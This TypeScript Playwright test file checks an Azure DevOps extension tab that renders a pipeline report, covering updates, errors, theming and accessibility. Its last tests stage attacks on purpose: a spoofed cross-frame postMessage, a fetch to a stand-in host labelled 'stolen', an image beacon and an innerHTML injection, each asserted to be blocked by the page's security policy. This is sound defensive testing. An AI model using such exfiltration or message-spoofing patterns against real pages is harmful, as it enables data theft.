/** The tab on a run's page, in a real browser, with the page around it and the service as they speak. */
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import type { AxeResults } from 'axe-core';
import type { Locator } from 'playwright-core';
import { partAttachment } from '../../../shared/report/names.js';
import { attachedOf, token as rightToken, type StoodRun } from './devOps.js';
import {
  dark,
  light,
  openStage,
  picturesOf,
  sample,
  type OpenTab,
  type SampleName,
  type Stage,
} from './stage.js';

declare global {
  interface Window {
    heard: Promise<string>;
  }
}

const runOf = (id: number, name: SampleName, more: Partial<StoodRun> = {}): StoodRun => {
  const report = sample(name);
  return {
    id,
    number: `20261123.${id}`,
    status: 'completed',
    result: 'succeeded',
    startTime: `2026-11-23T07:${String(id).padStart(2, '0')}:00Z`,
    attached: attachedOf(report, picturesOf(report)),
    ...more,
  };
};
const events = ({ page }: OpenTab) => page.evaluate(() => window.hostFrame.events);
const notes = ({ tab }: OpenTab) => tab.locator('.bake-and-roll-notes');

describe('the tab on a run', function () {
  this.timeout(120_000);
  let stage: Stage;
  let open: OpenTab;
  before(async () => {
    stage = await openStage();
  });
  after(() => stage.close());
  beforeEach(() => {
    stage.devOps.runs.length = 0;
    stage.devOps.asked.length = 0;
    stage.devOps.faults.length = 0;
  });
  afterEach(() => open.page.close());

  it('shows the report, its pictures, its links and what the run before took', async () => {
    stage.devOps.runs.push(
      runOf(42, 'smokeFailed', { result: 'failed' }),
      runOf(41, 'passing'),
      runOf(40, 'huge'),
    );
    open = await stage.openTab({ build: { id: 42 } });
    const { tab } = open;
    await tab.getByRole('heading', { level: 1, name: /Failed/ }).waitFor();
    await tab.locator('img[src^="blob:"]').first().waitFor();
    await tab.getByText('20261123.41').first().waitFor();
    const log = await tab.getByRole('link', { name: /^Log/ }).first().getAttribute('href');
    assert.match(
      log ?? '',
      /_build\/results\?buildId=42&view=logs&j=12f1170f-[\da-f-]+&t=00000000-0000-4000-8000-/,
    );
    assert.match(
      (await tab.getByRole('link', { name: /load-report/ }).getAttribute('href')) ?? '',
      /buildId=42&view=artifacts/,
    );
    assert.equal(await notes(open).textContent(), '');
    assert.ok((await events(open)).includes('notifyLoadSucceeded'));
    assert.deepEqual(await open.faults(), []);
    // The last run that passed and no other; parts once each; the token of the user, never the extension's.
    assert.ok(!stage.devOps.asked.some(path => path.includes('/builds/40')));
    const contents = stage.devOps.asked.filter(path => path.includes(`/attachments/${partAttachment}/`));
    assert.equal(new Set(contents).size, contents.length);
    assert.ok(!(await events(open)).includes('getAppToken'));
  });

  it('shows parts as they come, told by the page around', async () => {
    const run = runOf(42, 'passing', { status: 'inProgress' });
    delete run.result;
    const all = run.attached.splice(0).filter(({ type }) => type === partAttachment);
    stage.devOps.runs.push(run);
    open = await stage.openTab({ build: { id: 42 } });
    await notes(open).getByText('No step of Bake & Roll has finished yet').waitFor();
    for (const [index, part] of all.entries()) {
      run.attached.push(part);
      if (index === all.length - 1) {
        run.status = 'completed';
        run.result = 'succeeded';
      }
      await open.page.evaluate(() => {
        window.hostFrame.changeBuild();
      });
      const { step } = JSON.parse(String(part.content)) as { step: { displayName: string } };
      await open.tab.getByText(step.displayName).first().waitFor();
    }
    await open.tab.getByRole('heading', { level: 1, name: /Passed/ }).waitFor();
    assert.equal(await notes(open).textContent(), '');
    assert.deepEqual(await open.faults(), []);
  });

  it('looks again by itself when the page around tells nothing', async () => {
    const run = runOf(42, 'passing', { status: 'inProgress' });
    const late = run.attached.splice(1);
    stage.devOps.runs.push(run);
    open = await stage.openTab({ build: { id: 42 }, tellsChanges: false }, { simulatedTime: true });
    await open.tab.getByText('Bake the image').first().waitFor();
    run.attached.push(...late);
    await passUntil(open, open.tab.getByText('Load test').first());
    assert.deepEqual(await open.faults(), []);
  });

  it('names a part of a newer version and one that is broken, and shows the others', async () => {
    const run = runOf(42, 'passing');
    const change = (task: string, to: (content: string) => string) => {
      const index = run.attached.findIndex(({ name }) => name.startsWith(task));
      const one = run.attached[index];
      assert.ok(one);
      run.attached[index] = { ...one, content: to(String(one.content)) };
    };
    change('RunJmeterLoad', content =>
      JSON.stringify({ ...(JSON.parse(content) as object), schemaVersion: 2, taskVersion: '9.0.0', body: 7 }),
    );
    change('RunSeleniumSmoke', content => content.slice(0, 100));
    change('PatchArmImageUri', () => '{"schemaVersion":1,"task":"PatchArmImageUri"}');
    stage.devOps.runs.push(run);
    open = await stage.openTab({ build: { id: 42 } });
    await open.tab.getByText('Deploy and roll').first().waitFor();
    const said = (await notes(open).textContent()) ?? '';
    assert.match(
      said,
      /'Load test' \(RunJmeterLoad 9\.0\.0\) told its result in version 2 of the report, and this page knows version 1/,
    );
    assert.match(said, /'RunSeleniumSmoke-[^']*' tells cannot be read \(it is no JSON, perhaps cut off\)/);
    assert.match(said, /'PatchArmImageUri-[^']*' tells cannot be read \(/);
    assert.deepEqual(await open.faults(), []);
  });

  it('names a step that ended without its part, as one whose agent was lost', async () => {
    const run = runOf(42, 'passing', { silent: ['Load test of the evening'] });
    run.attached = run.attached.filter(({ name }) => !name.startsWith('RunJmeterLoad'));
    stage.devOps.runs.push(run);
    open = await stage.openTab({ build: { id: 42 } });
    await open.tab.getByText('Smoke tests').first().waitFor();
    assert.match(
      (await notes(open).textContent()) ?? '',
      /^The step 'Load test of the evening' ended \(abandoned\) and left nothing for the report/,
    );
  });

  it('shows the report without what only links and comparisons are made of', async () => {
    stage.devOps.runs.push(runOf(42, 'passing'));
    stage.devOps.faults.push({ path: /\/(timeline|artifacts|builds)$/, status: 500, times: 99 });
    stage.devOps.faults.push({ path: /report-picture/, status: 404, times: 99 });
    open = await stage.openTab({ build: { id: 42 } });
    await open.tab.getByRole('heading', { level: 1, name: /Passed/ }).waitFor();
    assert.equal(await notes(open).textContent(), '');
    assert.deepEqual(await open.faults(), []);
  });

  it('asks again where the service is busy', async () => {
    stage.devOps.runs.push(runOf(42, 'passing'));
    stage.devOps.faults.push({ path: /\/builds\/42$/, status: 503, times: 2 });
    stage.devOps.faults.push({ path: /PackerBakeVmss/, status: 429, times: 3 });
    open = await stage.openTab({ build: { id: 42 } });
    await open.tab.getByText('Bake the image').first().waitFor();
    assert.equal(await notes(open).textContent(), '');
  });

  for (const { what, status, body, says } of [
    {
      what: 'the reader may not see the run',
      status: 403,
      says: /does not let you or this extension read it/,
    },
    { what: 'the run is gone', status: 404, says: /no longer there: the run was deleted, or retention/ },
    { what: 'the service fails', status: 500, says: /Azure DevOps failed \(HTTP 500/ },
    {
      what: 'the reader has to sign in again',
      status: 203,
      body: '<!doctype html><script>window.parent.marker = 1</script>Sign in',
      says: /no answer that can be read.*sign in again/,
    },
  ])
    it(`says it when ${what}`, async () => {
      stage.devOps.runs.push(runOf(42, 'passing'));
      stage.devOps.faults.push({ path: /./, status, times: 99, ...(body === undefined ? {} : { body }) });
      open = await stage.openTab({ build: { id: 42 } });
      await notes(open).getByText(says).waitFor();
      assert.ok((await events(open)).includes('notifyLoadSucceeded'));
      assert.deepEqual(await open.faults(), []);
    });

  it('says it when the token is refused, and when no step left a part, on a page that everybody can read', async () => {
    const axe = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
    stage.devOps.runs.push(runOf(42, 'passing', { attached: [] }));
    for (const [token, says] of [
      ['of somebody else', /does not let you or this extension read it/],
      [rightToken, /No step of Bake & Roll left its part of a report in this run/],
    ] as const) {
      open = await stage.openTab({ build: { id: 42 }, token, theme: dark }, { bypassCSP: true });
      await notes(open).getByText(says).waitFor();
      await open.tab.addScriptTag({ path: axe });
      const { violations } = await open.tab.evaluate<AxeResults>('axe.run()');
      assert.deepEqual(
        violations.map(({ id }) => id),
        [],
      );
      if (token !== rightToken) await open.page.close();
    }
  });

  it('keeps the report when a later look fails, and says so', async () => {
    const run = runOf(42, 'passing', { status: 'inProgress' });
    stage.devOps.runs.push(run);
    open = await stage.openTab({ build: { id: 42 } });
    await open.tab.getByText('Bake the image').first().waitFor();
    stage.devOps.faults.push({ path: /\/builds\/42$/, status: 404, times: 1 });
    await open.page.evaluate(() => {
      window.hostFrame.changeBuild();
    });
    await notes(open)
      .getByText(/no longer there/)
      .waitFor();
    assert.ok(await open.tab.getByText('Bake the image').first().isVisible());
    await open.page.evaluate(() => {
      window.hostFrame.changeBuild();
    });
    await notes(open)
      .getByText(/no longer there/)
      .waitFor({ state: 'detached' });
  });

  it('has the colours of the page around, and follows them', async () => {
    stage.devOps.runs.push(runOf(42, 'passing'));
    // The reader's system prefers light, the page around is dark: it counts, also for what is around the report.
    open = await stage.openTab({ build: { id: 42 }, theme: dark }, { colorScheme: 'light' });
    const root = (theme: string) => open.tab.locator(`#report[data-theme="${theme}"]`);
    await root('dark').waitFor();
    const ground = () => {
      const { backgroundColor, colorScheme } = getComputedStyle(document.documentElement);
      return `${backgroundColor}, ${colorScheme}`;
    };
    assert.equal(await open.tab.evaluate(ground), 'rgb(32, 31, 30), dark');
    await open.page.evaluate(theme => window.hostFrame.changeTheme(theme), light);
    await root('light').waitFor();
    assert.equal(await open.tab.evaluate(ground), 'rgb(255, 255, 255), light');
    await open.page.evaluate(theme => window.hostFrame.changeTheme(theme), dark);
    await root('dark').waitFor();
    assert.deepEqual(await open.faults(), []);
  });

  it('hears nobody but the page around', async () => {
    stage.devOps.runs.push(runOf(42, 'passing'));
    open = await stage.openTab({ build: { id: 42 } });
    await open.tab.locator('#report[data-theme="light"]').waitFor();
    await open.tab.evaluate(() => {
      window.heard = new Promise<string>(resolve => {
        window.addEventListener('message', ({ data }) => {
          if (String(data).includes('of another')) resolve(String(data));
        });
      });
    });
    // A frame beside the tab speaks as the page around would.
    await open.page.evaluate(theme => {
      const message = {
        id: 1,
        methodName: 'dispatchEvent',
        instanceId: 'DevOps.SdkClient',
        params: ['themeChanged', { detail: { data: { ...theme, by: 'of another' } } }],
      };
      const other = document.createElement('iframe');
      other.srcdoc = `<script>parent.frames[0].postMessage(${JSON.stringify(JSON.stringify(message))}, '*')</script>`;
      document.body.append(other);
    }, dark);
    assert.match(await open.tab.evaluate(() => window.heard), /themeChanged/);
    // What the page around says next is heard after it, and finds nothing changed.
    const colour = () =>
      getComputedStyle(document.documentElement).getPropertyValue('--background-color').trim();
    assert.equal(await open.tab.evaluate(colour), light['background-color']);
    await open.page.evaluate(theme => window.hostFrame.changeTheme(theme), { ...light, next: '1' });
    assert.equal(await open.tab.evaluate(colour), light['background-color']);
    assert.equal(await open.tab.locator('#report').getAttribute('data-theme'), 'light');
  });

  it('can speak to the service only', async () => {
    stage.devOps.runs.push(runOf(42, 'passing'));
    open = await stage.openTab({ build: { id: 42 } });
    await open.tab.getByText('Bake the image').first().waitFor();
    const outcome = await open.tab.evaluate(async () => {
      const text = document.createElement('p');
      // In a list: a function with a name would need the test's own run-time here.
      const attempts = [
        () => fetch('https://example.com/?stolen'),
        () => Promise.resolve(Object.assign(new Image(), { src: 'https://example.com/a.png' })),
        () => {
          text['innerHTML' as 'className'] = '<b>x</b>';
        },
      ];
      for (const attempt of attempts)
        await Promise.resolve()
          .then(attempt)
          .catch(() => undefined);
      return text.children.length;
    });
    assert.equal(outcome, 0);
    await open.tab.waitForFunction(() => window.violations.length >= 3);
    const refused = (await open.faults()).map(fault => fault.split(' ').slice(0, 2).join(' '));
    assert.ok(refused.includes('connect-src https://example.com/?stolen'), refused.join('\n'));
    assert.ok(refused.includes('img-src https://example.com/a.png'), refused.join('\n'));
    assert.ok(refused.includes('require-trusted-types-for trusted-types-sink'), refused.join('\n'));
  });
});

/** Lets the page's own time pass, second by second, until something is to be seen. */
async function passUntil({ page }: OpenTab, what: Locator): Promise<void> {
  while (!(await what.isVisible())) await page.clock.runFor(1000);
}
